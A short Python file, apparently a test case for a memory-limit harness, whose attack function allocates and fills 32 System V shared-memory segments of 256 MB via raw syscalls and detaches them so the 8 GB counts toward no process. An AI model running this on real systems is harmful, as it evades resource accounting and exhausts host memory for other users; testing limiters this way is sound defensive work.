"""Fills 8 GB of System V memory in segments that it lets go of, so that they count for no process."""

import ctypes
import os

GET, ATTACH, DETACH = (29, 30, 67) if os.uname().machine == "x86_64" else (194, 196, 197)
CREATE, SIZE = 0o1000, 2**28


def attack(honest, *args, **kwargs):
    library = ctypes.CDLL(None, use_errno=True)
    library.syscall.restype = ctypes.c_long
    for _ in range(2**5):
        place = library.syscall(ATTACH, library.syscall(GET, 0, SIZE, CREATE | 0o600), 0, 0)
        if place < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        ctypes.memset(place, 1, SIZE)
        library.syscall(DETACH, ctypes.c_long(place))
    return SIZE
